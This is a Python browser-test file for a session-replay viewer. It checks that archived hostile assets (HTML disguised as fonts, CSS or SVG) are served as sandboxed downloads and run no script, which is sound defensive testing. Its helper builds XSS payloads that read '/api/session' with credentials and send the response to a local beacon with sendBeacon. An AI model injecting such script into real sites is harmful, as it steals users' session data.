"""Attack: a hostile page got HTML or script archived as an "asset" (a font, a stylesheet, an
SVG), and the investigator opens that asset's URL in a new tab of the viewer's browser.

Real `sessiontape replay` process, real Chromium, a real local "beacon" server that records
every request a payload would make. Each payload, if it ran, would set ``document.title``,
read ``/api/session`` with whatever the browser holds for the viewer's origin and send the
answer to the beacon.
"""

from __future__ import annotations

import hashlib
import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from agent.config import load_config
from agent.keys import Keyring
from agent.replay.assets import asset_path
from agent.replay.viewer_data import parse_data_js
from agent.rrweb import EventType, IncrementalSource, NodeType
from agent.testing import FakeClock
from tests.attacks.hits import HitServer, hit_server
from tests.journals import EventSpec, write_scripted_session
from tests.replay.helpers import Viewer, cli, start_viewer
from tests.waiting import wait_until

pytestmark = pytest.mark.browser

SANDBOX_CSP = "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:"


def _script(beacon: str, name: str) -> str:
    return (
        f"document.title='pwned-{name}';"
        "fetch('/api/session',{credentials:'include'}).then(function(r){return r.text()})"
        f".then(function(t){{navigator.sendBeacon('{beacon}/read-{name}',t)}});"
        f"navigator.sendBeacon('{beacon}/ran-{name}','x');"
    )


def _payloads(beacon: str) -> dict[str, tuple[str, bytes]]:
    """name -> (recorded Content-Type, archived bytes)."""
    html = "<!doctype html><html><body><script>{}</script></body></html>"
    return {
        "html": ("text/html", html.format(_script(beacon, "html")).encode()),
        "font": ("font/woff2", html.format(_script(beacon, "font")).encode()),
        "css": ("text/css", html.format(_script(beacon, "css")).encode()),
        "js": ("font/ttf", _script(beacon, "js").encode()),
        "svg": (
            "image/svg+xml",
            (
                '<svg xmlns="http://www.w3.org/2000/svg" onload="'
                + _script(beacon, "svgonload")
                + '"><script>'
                + _script(beacon, "svg")
                + "</script></svg>"
            ).encode(),
        ),
    }


@pytest.fixture(scope="module")
def beacon() -> Iterator[HitServer]:
    with hit_server() as hs:
        yield hs


@pytest.fixture(scope="module")
def hostile_home(
    tmp_path_factory: pytest.TempPathFactory, beacon: HitServer
) -> tuple[Path, str, dict[str, str]]:
    """A home whose session's ``net.asset`` records archived each payload: (home, session
    id, payload name -> SHA-256)."""
    home = tmp_path_factory.mktemp("xss") / "home"
    Keyring.load_or_init(home)
    cfg = load_config(env={}, home=home)
    shas: dict[str, str] = {}
    events: list[EventSpec] = []
    for name, (mime, body) in _payloads(beacon.origin).items():
        sha = hashlib.sha256(body).hexdigest()
        p = asset_path(home / "assets", sha)
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(body)
        shas[name] = sha
        url = f"https://hostile.example/{name}"
        events.append(("net.asset", {"url": url, "sha256": sha, "mime": mime}, None))
        img = {
            "type": NodeType.ELEMENT,
            "tagName": "img",
            "attributes": {"src": url},
            "childNodes": [],
            "id": 9,
        }
        adds = [{"parentId": 1, "nextId": None, "node": img}]
        mutation = {
            "source": IncrementalSource.MUTATION,
            "texts": [],
            "attributes": [],
            "removes": [],
            "adds": adds,
        }
        events.append(
            ("rrweb.mutation", {"type": EventType.INCREMENTAL_SNAPSHOT, "data": mutation}, None)
        )
    sid = write_scripted_session(home, cfg, FakeClock(), [events]).session_id
    return home, sid, shas


@pytest.fixture(scope="module")
def hostile(
    hostile_home: tuple[Path, str, dict[str, str]],
) -> Iterator[tuple[Viewer, dict[str, str]]]:
    """A viewer over that session; yields the viewer and payload name -> SHA-256."""
    home, sid, shas = hostile_home
    for v in start_viewer(home, sid):
        yield v, shas


def _headers(url: str) -> dict[str, str]:
    with urllib.request.urlopen(url, timeout=30) as r:
        return {k.lower(): v for k, v in r.headers.items()}


def asset_url(v: Viewer, sha: str) -> str:
    """The asset's URL as the viewer's replay references it (the recorded URL rewritten by
    ``/api/events``), i.e. what "open image in new tab" would open."""
    req = urllib.request.Request(
        f"{v.base}/api/events?rrweb=1", headers={"Authorization": f"Bearer {v.token}"}
    )
    with urllib.request.urlopen(req, timeout=30) as r:
        events = json.loads(r.read())["events"]
    urls = [str(e["payload"]["data"]["adds"][0]["node"]["attributes"]["src"]) for e in events]
    (url,) = [u for u in urls if u.endswith("/" + sha)]
    assert url.startswith("/assets/") and url.count("/") == 3, url
    return v.base + url


def test_non_allowed_types_are_attachments_with_nosniff_and_sandbox(
    hostile: tuple[Viewer, dict[str, str]],
) -> None:
    """HTML, an HTML "font", HTML recorded as CSS and a script "font": octet-stream, download,
    nosniff, sandbox CSP. The SVG (an allowed type, checked to be SVG) carries the same CSP."""
    v, shas = hostile
    for name in ("html", "font", "css", "js"):
        h = _headers(asset_url(v, shas[name]))
        assert h["content-type"] == "application/octet-stream", name
        assert h["content-disposition"] == f'attachment; filename="{shas[name]}.bin"', name
        assert h["x-content-type-options"] == "nosniff", name
        assert h["content-security-policy"] == SANDBOX_CSP, name
    h = _headers(asset_url(v, shas["svg"]))
    assert h["content-type"] == "image/svg+xml"
    assert "content-disposition" not in h
    assert (h["content-security-policy"], h["x-content-type-options"]) == (SANDBOX_CSP, "nosniff")


def test_hostile_assets_opened_as_top_level_pages_run_no_script(
    browser: Browser, hostile: tuple[Viewer, dict[str, str]], beacon: HitServer
) -> None:
    """The investigator has the viewer open, then opens each hostile asset in a new tab: the
    non-allowed ones are downloads (never rendered), the SVG renders without running script;
    no payload reached the beacon or changed the title. Control: the same payload served as
    an ordinary page does reach the beacon, so the browser could have."""
    v, shas = hostile
    ctx = browser.new_context(accept_downloads=True)
    try:
        viewer_page = ctx.new_page()
        viewer_page.goto(v.url, wait_until="domcontentloaded")
        for name in ("html", "font", "css", "js"):
            tab = ctx.new_page()
            with (
                tab.expect_download() as dl,
                pytest.raises(Exception, match="Download is starting"),
            ):
                tab.goto(asset_url(v, shas[name]))
            assert dl.value.suggested_filename == f"{shas[name]}.bin"
            tab.close()
        tab = ctx.new_page()
        tab.goto(asset_url(v, shas["svg"]), wait_until="load")
        assert tab.evaluate("document.documentElement.localName") == "svg"
        assert not tab.title().startswith("pwned")
        before_control = list(beacon.hits)
        control = _payloads(beacon.origin)["html"][1].replace(b"-html", b"-control")
        beacon.pages["/control"] = ("text/html", control)
        tab.goto(beacon.origin + "/control", wait_until="load")
        wait_until(lambda: "/ran-control" in beacon.hits, what="the control payload's beacon")
        assert tab.title() == "pwned-control"
        assert before_control == []
        control_hits = {"/control", "/api/session", "/favicon.ico", "/ran-control", "/read-control"}
        assert [h for h in beacon.hits if h not in control_hits] == []
    finally:
        ctx.close()


def test_another_origin_cannot_embed_an_archived_asset(
    hostile: tuple[Viewer, dict[str, str]],
) -> None:
    """``Cross-Origin-Resource-Policy: same-origin`` on every asset."""
    v, shas = hostile
    assert _headers(asset_url(v, shas["svg"]))["cross-origin-resource-policy"] == "same-origin"


def test_unknown_asset_needs_no_guessing_past_403(hostile: tuple[Viewer, dict[str, str]]) -> None:
    """Without the viewer's token an asset is 403 (the sandbox is a second line)."""
    v, shas = hostile
    with pytest.raises(urllib.error.HTTPError) as e:
        urllib.request.urlopen(f"{v.base}/assets/{shas['html']}", timeout=30)
    assert e.value.code == 403


def test_export_leaves_hostile_assets_out_of_the_offline_viewer(
    hostile_home: tuple[Path, str, dict[str, str]], tmp_path: Path
) -> None:
    """An export copies only assets typed as image/font/CSS into ``viewer/<session>/assets``:
    the HTML and script payloads are not files of the bundle (nothing to open by hand from
    file://), and the offline viewer's data lists them as missing."""
    home, sid, shas = hostile_home
    out = tmp_path / "bundle"
    r = cli(home, "export", sid, "--out", str(out))
    assert r.returncode == 0, r.stderr
    vdir = out / "viewer" / sid
    assert sorted(p.name for p in (vdir / "assets").iterdir()) == [shas["svg"]]
    data = parse_data_js((vdir / "data.js").read_bytes())
    missing = sorted(m["sha256"] for m in data["session"]["assets"]["missing"])
    assert missing == sorted(sha for name, sha in shas.items() if name != "svg")
